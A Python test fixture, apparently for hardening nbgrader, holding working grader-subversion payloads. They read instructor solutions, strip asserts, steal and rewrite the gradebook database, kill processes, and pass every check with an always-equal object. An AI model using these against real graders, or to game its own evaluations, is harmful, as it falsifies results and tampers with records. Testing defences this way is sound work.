"""Attacks that stock nbgrader permits, as code that acts if anything runs the submission while it is graded."""

from __future__ import annotations

import textwrap

# In a class body, which runs on import, since only the definitions of a submitted notebook count.
ATTACKS = {
    "reads-the-solutions": """
        import json
        for cell in json.load(open("{course}/source/p1_mlp/p1_mlp.ipynb"))["cells"]:
            if cell["cell_type"] == "code":
                exec("".join(cell["source"]).replace("from .", "from "), globals())
    """,
    "drops-asserts": """
        import ast
        from IPython import get_ipython
        class Drop(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()
        get_ipython().ast_transformers.append(Drop())
    """,
    "replaces-the-kernel": """
        from IPython import get_ipython
        async def nothing(*args, **kwargs):
            return None
        get_ipython().run_cell_async = nothing
    """,
    "displays-points": """
        from IPython import get_ipython
        from IPython.display import display
        get_ipython().events.register("pre_run_cell", lambda info: display(14.0))
    """,
    "reads-the-gradebook": """
        import sqlite3
        stolen = sqlite3.connect("{course}/gradebook.db").execute("select source from source_cell").fetchall()
        open("{loot}/stolen", "w").write(repr(stolen))
    """,
    "patches-torch": """
        import builtins, torch
        torch.allclose = torch.equal = builtins.abs = builtins.isinstance = lambda *args, **kwargs: True
    """,
    "gives-itself-credit": """
        import sqlite3
        book = sqlite3.connect("{course}/gradebook.db")
        book.execute("update grade set extra_credit = 99")
        book.execute("update grade set manual_score = 0")
        book.commit()
    """,
    "gives-itself-credit-later": """
        import os, sqlite3, time
        if os.fork() == 0:
            os.setsid()
            time.sleep(5)
            book = sqlite3.connect("{course}/gradebook.db")
            book.execute("update grade set extra_credit = 99")
            book.commit()
            os._exit(0)
    """,
    "kills-the-parent": """
        import os, signal
        for victim in (os.getppid(), -1):
            try:
                os.kill(victim, signal.SIGKILL)
            except OSError:
                pass
    """,
}
ALWAYS_EQUAL = '''
class Equal(float):
    """Equals everything that it is compared with."""
    def __eq__(self, other): return True
    def __lt__(self, other): return True
    __gt__ = __le__ = __ge__ = __lt__
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __iter__(self): return iter([self] * 9)
    __getitem__ = __sub__ = __rsub__ = __add__ = __mul__ = __abs__ = lambda self, *args: self
    def __hash__(self): return 0


def softmax(*args): return Equal()
def cross_entropy(*args): return Equal()
def init_params(*args): return Equal()
def forward(*args): return Equal()
def loss_accuracy(*args): return Equal()
def backward(*args): return Equal()
def sgd(*args): return Equal()
def train(*args, **kwargs): return Equal()
'''


def attack_cell(name: str, course: str, loot: str) -> str:
    """The source of an answer cell that attacks during its import and solves nothing."""
    body = textwrap.dedent(ATTACKS[name]).replace("{course}", course).replace("{loot}", loot).strip()
    return f"class Attack:\n    exec({body!r}, globals())\n{ALWAYS_EQUAL}"
